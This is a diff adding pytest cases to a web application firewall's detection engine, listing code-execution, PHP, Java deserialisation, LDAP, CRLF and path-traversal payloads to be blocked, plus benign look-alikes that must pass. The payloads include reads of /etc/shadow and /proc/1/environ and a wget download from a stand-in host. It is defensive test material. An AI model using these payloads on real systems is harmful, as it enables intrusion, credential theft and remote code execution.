@@ -354,3 +354,115 @@ def test_one_parent_step_to_a_credential_file_is_blocked(engine: DetectionEngine
 def test_credential_file_names_in_prose_pass(engine: DetectionEngine) -> None:
     """Naming such a file in text, even as a path, is not a traversal."""
     passes_everywhere(engine, "Copy .env.example to .env, then see config/.env for the keys")
+
+
+# ------------------------------------------- 7. the CRS families: RCE, PHP, Java, LDAP, protocol
+#: Each class in a spelling of our own: cmd.exe loops, PHP calls of every kind, shell globbing,
+#: whole-value command lines, Java gadget classes and serialised objects.
+CODE_EXECUTION = [
+    "for /l %n in (1,1,9) do ping -n 1 10.0.0.%n",  # 3025
+    "FOR %# IN (x y) DO type %#",
+    'if /i "%role%"=="admin" net user',
+    "file_put_contents('s.php', $_POST[0]);",  # 3026, 3029
+    "highlight_file   /* x */ ('conf.php')",
+    "base64_decode#c\n('aWQ=')",
+    "unserialize($_COOKIE['cart'])",  # 3027
+    "require_once($incpath)",
+    "system(uname)",
+    "(passthru)('ls -l');",  # 3028
+    "'ex'.'ec'('whoami');",
+    "$fn=@$_REQUEST{7}(8)",
+    "${'_'.'GET'}[0]($_GET[1])",
+    "$_SERVER['HTTP_X']",  # 3029
+    "<?\tprint(1);",  # 3030
+    "[php]passthru('w')[/php]",
+    "-d allow_url_include=on",
+    "/???/c?t /e?c/p??swd",  # 3031
+    "; /b[i]n/l[s] -al",
+    "less /etc/sha[d]ow",
+    "/usr/local/bin/python3 -c 'import os'",  # 3032
+    "xzcat -d /var/backups/db.xz",
+    "dash -c \"id\"",
+    "cd /tmp && wget x.example/a",
+    "alias ll=rm",
+    "strace whoami",
+    "java.lang.ProcessBuilder",  # 3033
+    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+]
+
+
+@pytest.mark.parametrize("payload", CODE_EXECUTION)
+def test_code_execution_classes_are_blocked_in_every_location(engine: DetectionEngine, payload: str) -> None:
+    """PHP, cmd.exe, shell-glob, command-line and Java execution shapes are refused wherever they are."""
+    blocked_everywhere(engine, payload, "cmdi")
+
+
+@pytest.mark.parametrize(
+    ("payload", "category"),
+    [
+        ("0x2e0x2e0x2fetc", "path_traversal"),  # 4009
+        ("/proc/1/environ", "path_traversal"),  # 4003
+        ("file=/sys/kernel/debug", "path_traversal"),
+        ("admin)(|(uid=*", "ldapi"),  # 8006
+        ("guest)(&)", "ldapi"),
+        ("x\r\nDELETE /v1/users/7 HTTP/1.1", "crlf"),  # 12003
+        ("<script>document.cookie=\"sid=attacker\"</script>", "crlf"),  # 12004
+        ("<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">", "crlf"),
+    ],
+)
+def test_protocol_ldap_and_hex_traversal_classes_are_blocked(engine: DetectionEngine, payload: str,
+                                                             category: str) -> None:
+    """A smuggled request line, a cookie set by injected markup, an LDAP filter closed and
+    reopened and a traversal in hex literals are refused in the body and the query."""
+    for where, request in placements(payload).items():
+        if where in ("header", "cookie", "path") and ("\n" in payload or ";" in payload or '"' in payload):
+            continue
+        verdict = engine.evaluate(request)
+        assert verdict.block_category is not None, (payload, where, verdict.log_record())
+        assert category in {h.rule.category for h in verdict.hits}, (payload, where)
+
+
+#: What shares a word or a character with those classes in real API traffic.
+CODE_EXECUTION_LOOK_ALIKES = [
+    "for 50% in (most) cases the loop is fine",
+    "Paid $5 (five dollars) for shipping",
+    "Use count($items) in the template",  # not one of the listed functions
+    "The system (as designed) works",
+    "eval (the evaluation) is due on Friday",
+    "<? should this be escaped",
+    "$scope.load(items)",
+    "glob pattern /*/*.json matches both",
+    "routes: /v1/*/items",
+    "Run the tests with pytest -q tests/unit",
+    "cd into the folder, then run make",
+    "An alias is another name",
+    "Caused by: java.lang.NullPointerException at java.lang.Thread.run(Thread.java:833)",
+    "java.lang.IllegalStateException: Failed to load ApplicationContext\n"
+    "\tat org.springframework.beans.factory.support.AbstractBeanFactory.getBean(AbstractBeanFactory.java:208)\n"
+    "\tat org.springframework.context.support.AbstractApplicationContext.refresh(AbstractApplicationContext.java:583)\n"
+    "\tat java.base/java.lang.ClassLoader.loadClass(ClassLoader.java:521)\n"
+    "\tat java.net.URLClassLoader.findClass(URLClassLoader.java:445)\n"
+    "\tat com.sun.org.apache.xerces.internal.parsers.DOMParser.parse(DOMParser.java:247)\n"
+    "\tat com.zaxxer.hikari.pool.HikariPool.createPoolEntry(HikariPool.java:476)\n"
+    "\tat groovy.lang.MetaClassImpl.invokeMethod(MetaClassImpl.java:1254)\n",
+    "java.io.IOException: Broken pipe",
+    "function f(a)(b) { return a + b }",
+    "0x2e is the code of a dot",
+    "Time is short, strace the process later",
+    "logs in /var/log/app[1].log",
+    "If you need 20% more, ask",
+    "the sys class and the proc module",
+    '<button @click="copy($event)" v-on:change="file($event)">Copy</button>',
+    '<li ng-click="rename($event, item)">',
+    "Click the dl (download) link",
+    "GET /v1/orders is documented on the reference page",
+    "Set document.title = 'Orders' when the page loads",
+    "Order total (with VAT) = 12.50",
+]
+
+
+@pytest.mark.parametrize("text", CODE_EXECUTION_LOOK_ALIKES)
+def test_code_execution_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
+    """Prose and code that share words or characters with the new classes pass everywhere."""
+    passes_everywhere(engine, text)
